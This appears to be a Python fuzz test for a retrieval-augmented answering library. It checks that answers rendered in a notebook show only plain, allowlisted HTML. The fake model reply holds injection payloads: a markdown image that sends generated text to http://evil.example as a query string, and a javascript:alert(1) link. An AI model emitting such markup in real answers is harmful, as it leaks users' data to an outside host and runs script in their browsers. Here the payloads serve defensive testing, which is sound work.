"""What an answer shows in a notebook is text: no markup of a label or a model, none of their addresses."""

from __future__ import annotations

import random
from dataclasses import replace
from pathlib import Path

from langchain_core.language_models import FakeListChatModel

from mrag.errors import ModelError
from mrag.generation.answering import answer
from mrag.generation.result import ShownImage
from tests.injection.hostile import attack, strange_markup, text
from tests.injection.test_prompts import record

ALLOWED = {"div", "p", "br", "figure", "img", "figcaption", "b", "code", "small", "ul", "li"}


def of_a_notebook(rng: random.Random) -> str | None:
    context = record(rng)
    said = f"{text(rng)} ![x](http://evil.example/?q={text(rng)}) [y](javascript:alert(1)) {text(rng)}"
    model = FakeListChatModel(responses=[said]) if rng.random() < 0.5 else None
    try:
        given = answer(text(rng), context, model)
    except ModelError:
        return None
    shown = ShownImage("urn:i" + text(rng), text(rng), None, 1.0, 1, (text(rng),), context.lines)
    missing = ShownImage("http://evil.example/x.png", text(rng), Path("/no/such"), 1.0, 2, (), ())
    strange = strange_markup(replace(given, way="images", images=(shown, missing))._repr_html_(), ALLOWED)
    return f"a browser sees {strange}" if strange else None


def test_notebooks_show_text() -> None:
    attack("notebooks", 150, of_a_notebook)
